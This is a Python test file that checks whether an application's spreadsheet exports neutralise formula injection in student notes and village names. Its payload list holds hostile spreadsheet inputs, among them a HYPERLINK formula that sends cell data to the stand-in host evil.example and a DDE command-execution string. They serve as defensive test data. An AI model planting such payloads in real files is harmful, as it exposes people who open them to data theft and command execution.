"""T17: formula injection. Text that starts with = + - @ TAB or CR (=HYPERLINK(…) too) in a student's
notes and a household's village goes out in the submission workbook, the list export and the audit
log export as text: no formula element for user data in the file, and LibreOffice shows it literally.
(The app writes no CSV files, so the CSV half of the test has nothing to check.)"""
from __future__ import annotations

import re
import sqlite3
import zipfile

import pytest

from db.sheets import write_rows_xlsx
from tests.db.exchange.test_workbook_libreoffice import libreoffice_sheets
from tests.faults.conftest import run_main
from tests.faults.scenario import make_ledger

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def ledger(tmp_path_factory):
    path = make_ledger(tmp_path_factory.mktemp("t17") / "ledger.sqlite3", 10)
    con = sqlite3.connect(path)
    ids = [r[0] for r in con.execute("SELECT id, household_id FROM student ORDER BY id LIMIT ?", (len(PAYLOADS),))]
    for sid, text in zip(ids, PAYLOADS):
        con.execute("UPDATE student SET notes = ? WHERE id = ?", (text, sid))
        con.execute("UPDATE household SET village = ? WHERE id = (SELECT household_id FROM student WHERE id = ?)",
                    (text, sid))
    con.commit()
    con.close()
    return path


def formulas(path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [m for n in z.namelist() if n.startswith("xl/worksheets/")
                for m in re.findall(rb"<f[ >].*?</f>", z.read(n))]


def test_workbook_and_list_keep_user_text_as_text(ledger, tmp_path):
    book = tmp_path / "报送.xlsx"
    r = run_main("export", "workbook", str(book), "--term", "2020秋", "--db", str(ledger))
    assert r.returncode == 0, r.stderr
    listing = tmp_path / "列表.xlsx"
    write_rows_xlsx(listing, "学生", ["姓名", "备注"], [["张三", p] for p in PAYLOADS])
    for path in (book, listing):
        assert formulas(path) == [], path.name
        shown = "\n".join(",".join(row) for rows in libreoffice_sheets(path, tmp_path).values() for row in rows)
        for p in PAYLOADS:
            literal = p.strip("\t\r")
            assert literal in shown, (path.name, p)          # shown as typed, never evaluated
        assert "点我" not in shown.replace(PAYLOADS[0], "")   # the link's caption never appears alone
